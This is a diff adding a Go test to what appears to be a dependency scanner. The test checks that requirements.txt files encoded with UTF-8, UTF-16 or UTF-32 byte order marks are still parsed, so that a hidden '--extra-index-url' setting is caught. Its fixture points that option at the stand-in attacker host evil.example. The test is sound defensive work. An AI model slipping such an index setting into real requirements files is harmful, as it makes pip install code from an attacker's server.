@@ -2,6 +2,7 @@ package deps
 
 import (
 	"context"
+	"encoding/binary"
 	"fmt"
 	"slices"
 	"strings"
@@ -166,4 +167,39 @@ func TestListReadsSourceSettings(t *testing.T) {
 	if strings.Contains(fmt.Sprintf("%+v", rep), "TOKENVALUE") {
 		t.Error("the report holds the .npmrc's credential")
 	}
+}
+
+// TestRequirementsDecodedLikePip: a requirements file with a byte order mark is read as pip
+// reads it (UTF-8 with a BOM, UTF-16 and UTF-32 in either byte order): its new index is a
+// setting and its packages are listed. Before, the UTF-8 BOM hid the first line's
+// --extra-index-url as "not a requirement pip reads", and a UTF-16 file was all unread, while
+// pip installs from that index.
+func TestRequirementsDecodedLikePip(t *testing.T) {
+	t.Parallel()
+	text := "--extra-index-url https://evil.example/simple\r\nrequests==2.31.0\r\n"
+	encode := func(bom []byte, width int, order binary.AppendByteOrder) string {
+		b := append([]byte{}, bom...)
+		for _, r := range text {
+			if width == 2 {
+				b = order.AppendUint16(b, uint16(r))
+			} else {
+				b = order.AppendUint32(b, uint32(r))
+			}
+		}
+		return string(b)
+	}
+	want := "requirements.txt PyPI requests added ->2.31.0\n" +
+		"requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n"
+	var cases []construct
+	for name, content := range map[string]string{
+		"UTF8BOM":   "\xef\xbb\xbf" + text,
+		"UTF16LE":   encode([]byte{0xff, 0xfe}, 2, binary.LittleEndian),
+		"UTF16BE":   encode([]byte{0xfe, 0xff}, 2, binary.BigEndian),
+		"UTF32LE":   encode([]byte{0xff, 0xfe, 0, 0}, 4, binary.LittleEndian),
+		"UTF32BE":   encode([]byte{0, 0, 0xfe, 0xff}, 4, binary.BigEndian),
+		"PlainCRLF": text,
+	} {
+		cases = append(cases, construct{name: name, path: "requirements.txt", patched: content, want: want})
+	}
+	runConstructs(t, cases)
 }
